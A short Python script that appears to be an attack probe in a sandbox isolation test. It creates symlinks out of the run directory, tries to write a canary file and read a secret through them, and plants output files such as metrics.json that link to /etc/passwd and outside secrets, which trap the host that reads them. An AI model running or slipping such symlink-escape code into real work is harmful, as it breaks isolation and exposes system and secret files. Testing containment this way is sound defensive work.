"""Write and read through symlinks that leave the run directory; leave traps for the host."""

import json
import os

out, o = os.environ["M3_OUT"], os.environ["ATK_OUTSIDE"]
done = []
os.symlink(o, out + "/esc")
try:
    open(out + "/esc/canary.txt", "a").write("PWNED\n")
    done.append("write through")
except OSError:
    pass
try:
    open(out + "/esc/secret.txt").read()
    done.append("read through")
except OSError:
    pass
for n, t in (
    ("metrics.json", o + "/secret.txt"),
    ("predictions.csv", "/etc/passwd"),
    ("best.pt", o + "/canary.txt"),
    ("report.html", "../../outside/secret.txt"),
):
    os.symlink(t, f"{out}/{n}")
print("ATTACK", json.dumps({"attack": "symlink_escape", "breach": bool(done), "detail": done}))
